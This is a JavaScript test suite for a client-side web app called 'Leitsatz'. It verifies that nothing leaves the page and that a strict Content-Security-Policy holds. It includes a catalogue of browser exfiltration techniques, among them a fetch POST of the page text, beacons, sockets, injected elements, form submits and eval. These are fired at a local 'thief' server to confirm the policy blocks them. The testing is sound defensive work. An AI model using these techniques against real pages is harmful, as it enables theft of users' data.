// Nothing leaves the page.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, before, test } from "node:test";

import {
  built,
  english,
  offline,
  paste,
  ready,
  showExample,
  shows,
  slide,
  start,
} from "./support.mjs";

let site;
let thief; // a server that would be glad to hear something
let heard = 0;
before(async () => {
  site = await start();
  thief = createServer((_, response) => {
    ++heard;
    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("thanks");
  });
  await new Promise((done) => thief.listen(0, "127.0.0.1", done));
});
after(async () => {
  await site?.close();
  thief?.close();
});

test("a whole session asks for nothing after load but the phrases of another language", () =>
  site.open(
    async (page, urls) => {
      await offline(page);
      const loaded = urls.length;
      await showExample(page, "en");
      await slide(page, 9);
      for (const form of ["points", "line", "sentences"]) {
        await page.locator(`#form input[value=${form}]`).check();
      }
      await page.locator("#unit").selectOption("words");
      await page.locator("#picks a").first().click();
      await page.keyboard.press("Escape");
      await page.locator("#keywords button").first().click();
      await page.locator("#focus").fill("school");
      await page.waitForTimeout(400);
      await page.locator("#facts > summary").click();
      await shows(page, () => page.locator("#language").selectOption("fr"));
      await page.locator("#interface").selectOption("de");
      await page.locator("#copy").click();
      for (const kind of ["markdown", "html", "json"]) {
        await page.locator("#downloads > summary").click();
        const download = page.waitForEvent("download");
        await page.locator(`#save-${kind}`).click();
        await download;
      }
      const remote = `<p>${"A sentence about a picture. ".repeat(20)}</p><img src="https://example.org/x.png">
        <link rel=stylesheet href="https://example.org/x.css"><iframe src="https://example.org/"></iframe>
        <script src="https://example.org/x.js"></script><video poster="https://example.org/p.png">`;
      await shows(page, () => paste(page, { "text/html": remote }));
      await page.locator("#new").click();
      await paste(page, { "text/plain": "https://example.org/news" });
      await page.waitForTimeout(300);
      const later = urls.slice(loaded).filter((url) => !url.startsWith("blob:"));
      const phrases = new RegExp(`^${site.origin}/phrases-de-[0-9a-f]+\\.json$`);
      assert.ok(
        later.every((url) => phrases.test(url)),
        later.join(),
      );
      assert.deepEqual(
        urls.filter((url) => !url.startsWith(`${site.origin}/`) && !url.startsWith("blob:")),
        [],
      );
    },
    { permissions: ["clipboard-read", "clipboard-write"], viewport: { width: 1280, height: 800 } },
  ));

/** Every way out that a script in the page could try. */
const WAYS = [
  (url) => fetch(url, { mode: "no-cors" }),
  (url) => fetch(url, { method: "POST", body: document.body.innerText, mode: "no-cors" }),
  (url) =>
    new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.open("GET", url);
      request.onload = done;
      request.onerror = () => fail(new Error("stopped"));
      request.send();
    }),
  (url) => {
    if (!navigator.sendBeacon(url, "text")) throw new Error("stopped");
    return new Promise((_, fail) => setTimeout(() => fail(new Error("stopped")), 300));
  },
  (url) =>
    new Promise((done, fail) => {
      const socket = new WebSocket(url.replace("http", "ws"));
      socket.onopen = done;
      socket.onerror = () => fail(new Error("stopped"));
    }),
  (url) =>
    new Promise((done, fail) => {
      const source = new EventSource(url);
      source.onopen = done;
      source.onerror = () => fail(new Error("stopped"));
    }),
  ...["img", "script", "iframe", "link", "video", "object", "embed"].map(
    (name) => `(url) => {
      const element = document.createElement("${name}");
      if (element.localName === "link") element.rel = "stylesheet";
      const attribute = { link: "href", object: "data" }["${name}"] ?? "src";
      return new Promise((done, fail) => {
        if ("${name}" !== "iframe") element.onload = done; // it loads a page that says it was refused
        element.onerror = () => fail(new Error("stopped"));
        setTimeout(() => fail(new Error("stopped")), 300);
        element.setAttribute(attribute, url);
        document.body.append(element);
      });
    }`,
  ),
  (url) => {
    const form = document.createElement("form");
    form.action = url;
    form.method = "post";
    document.body.append(form);
    form.submit();
    return new Promise((_, fail) => setTimeout(() => fail(new Error("stopped")), 300));
  },
  (url) => {
    const base = document.createElement("base");
    base.href = url;
    document.head.append(base);
    if (document.baseURI.startsWith(url)) return true;
    throw new Error("stopped");
  },
  (url) => import(url),
  (url) =>
    new Promise((done, fail) => {
      new Worker(url).onerror = () => fail(new Error("stopped"));
    }),
  () => eval("1"),
  () => new Function("return 1")(),
  () => {
    setTimeout("document.title = 'ran'");
    throw new Error("the window's title tells");
  },
  () => {
    document.body.innerHTML = "<b>in</b>";
  },
  () => document.write("<b>in</b>"),
  () => trustedTypes.createPolicy("another", { createHTML: (html) => html }),
];

/** A script of the page's own origin, so that the whole policy holds for it, that tries them all. */
const attack = `globalThis.attack = async (url) => {
  const succeeded = [];
  for (const way of [${WAYS.map(String).join(",\n")}]) {
    try {
      await way(url);
      succeeded.push(String(way));
    } catch {}
  }
  return succeeded;
};`;

test("whoever tries to get something out is stopped by the policy", async () => {
  const context = await site.browser.newContext({ serviceWorkers: "block" });
  try {
    const html = await readFile(join(built, "index.html"), "utf8");
    const body = html.replace("</head>", '<script src="attack.js"></script></head>');
    await context.route(`${site.origin}/`, (route) => {
      return route.fulfill({ contentType: "text/html; charset=utf-8", body });
    });
    await context.route(`${site.origin}/attack.js`, (route) => {
      return route.fulfill({ contentType: "text/javascript", body: attack });
    });
    const page = await context.newPage();
    await page.goto(`${site.origin}/`);
    await ready(page);
    const url = `http://127.0.0.1:${thief.address().port}/`;
    const succeeded = await page.evaluate((address) => globalThis.attack(address), url);
    assert.deepEqual(succeeded, []);
    await page.waitForTimeout(300);
    assert.equal(heard, 0);
    assert.notEqual(await page.title(), "ran");
  } finally {
    await context.close();
  }
});

test("the policy is the strict one, in the page itself", async () => {
  const html = await readFile(join(built, "index.html"), "utf8");
  const policy = /Content-Security-Policy" content="([^"]*)"/.exec(html)[1];
  for (const directive of [
    "default-src 'none'",
    "script-src 'self' 'wasm-unsafe-eval'",
    "style-src 'self'",
    "connect-src 'self'",
    "form-action 'none'",
    "base-uri 'none'",
    "require-trusted-types-for 'script'",
  ]) {
    assert.ok(policy.split("; ").includes(directive), directive);
  }
  assert.doesNotMatch(policy, /https?:|\*|unsafe-inline|'unsafe-eval'/);
  assert.ok(html.indexOf("Content-Security-Policy") < html.search(/<link|<script|<style/));
  assert.doesNotMatch(html, /<style|<script(?![^>]*\ssrc=)| on\w+=| style=/);
});

test("the text is in no address, no entry of the history and no title of the window", () =>
  site.open(async (page) => {
    await shows(page, () => paste(page, { "text/plain": english }));
    assert.doesNotMatch(page.url(), /Bell|Ashcombe/);
    assert.equal(await page.evaluate(() => JSON.stringify(history.state)), '{"text":1}');
    assert.equal(await page.title(), "Leitsatz");
  }));
